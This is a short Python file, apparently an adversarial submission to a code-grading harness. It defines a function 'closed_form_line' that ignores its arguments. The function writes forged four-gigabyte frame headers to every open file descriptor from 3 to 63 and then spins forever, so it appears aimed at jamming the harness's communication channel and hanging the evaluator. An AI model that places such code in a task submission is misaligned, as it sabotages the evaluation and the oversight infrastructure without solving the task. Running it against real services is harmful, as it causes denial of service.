"""Announce frames of four gigabytes, and then send nothing.

Attacked: closed_form_line
"""

# %% closed_form_line

import os, struct

def closed_form_line(x, y):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("!IIId", 0xFFFFFFFF, 0xFFFFFFFF, 1, 0.0))
        except OSError:
            pass
    while True:
        pass
